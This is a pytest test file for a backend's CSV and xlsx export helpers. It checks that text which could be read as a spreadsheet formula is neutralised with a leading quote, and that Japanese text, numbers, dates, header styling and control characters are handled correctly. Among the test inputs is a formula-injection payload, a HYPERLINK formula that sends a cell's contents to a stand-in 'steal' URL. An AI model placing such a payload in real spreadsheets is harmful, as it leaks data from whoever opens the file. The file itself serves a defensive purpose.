"""CSV and Excel exports are inert: no text a spreadsheet would read as a formula survives as one."""

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from backend.core.spreadsheet import csv_bytes, inert, xlsx_bytes

PREFIXES = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"]  # OWASP, and the full-width forms
FORMULAS = [f"{prefix}1+1" for prefix in PREFIXES] + ['=HYPERLINK("http://x/steal?"&A1,"x")']


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def _sheet(data: bytes):
    return load_workbook(io.BytesIO(data)).active


def _as_xml_reads_it(text: str) -> str:
    return text.replace("\r", "\n")  # an XML parser reads a raw carriage return back as a line feed


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_could_start_a_formula_gets_a_leading_quote(text):
    assert inert(text) == "'" + text


@pytest.mark.parametrize("value", ["長野市", "株式会社=A", "", None, 42, -5, 2.5, dt.date(2027, 4, 1)])
def test_other_values_are_left_as_they_are(value):
    assert inert(value) == value


def test_csv_cells_are_quoted_and_the_file_keeps_bom_and_crlf():
    data = csv_bytes(header=["=名前", "金額"], rows=[[text, -5] for text in FORMULAS])
    assert data.startswith("\ufeff".encode()) and b"\r\n" in data
    header, *rows = _csv_cells(data)
    assert header == ["'=名前", "金額"]
    assert [row[0] for row in rows] == ["'" + text for text in FORMULAS]
    assert {row[1] for row in rows} == {"-5"}  # a negative number is a number, not a formula


def test_no_xlsx_cell_is_a_formula_and_every_text_cell_is_text():
    data = xlsx_bytes(title="テスト", header=["=名前", "金額", "日付"],
                      rows=[[text, -5, dt.date(2027, 4, 1)] for text in FORMULAS])
    sheet = _sheet(data)
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert sheet["A1"].value == "'=名前" and sheet["A1"].data_type == "s"
    shown = [sheet.cell(row=r, column=1).value for r in range(2, len(FORMULAS) + 2)]
    assert shown == [_as_xml_reads_it("'" + text) for text in FORMULAS]
    assert (sheet["B2"].value, sheet["B2"].data_type) == (-5, "n")
    assert sheet["C2"].value == dt.datetime(2027, 4, 1) and sheet["C2"].is_date


def test_the_xlsx_header_is_bold_and_frozen():
    sheet = _sheet(xlsx_bytes(title="入札参加制限", header=["事業者", "市区町村"], rows=[["A社", "長野市"]]))
    assert sheet.title == "入札参加制限"
    assert sheet["A1"].font.bold and sheet["B1"].font.bold and not sheet["A2"].font.bold
    assert sheet.freeze_panes == "A2"


def test_control_characters_that_a_workbook_cannot_hold_do_not_break_the_export():
    sheet = _sheet(xlsx_bytes(title="t", header=["名前"], rows=[["ベル\x07文字"], ["タブ\tと改行\n"]]))
    assert sheet["A2"].value == "ベル\ufffd文字"
    assert sheet["A3"].value == "タブ\tと改行\n"
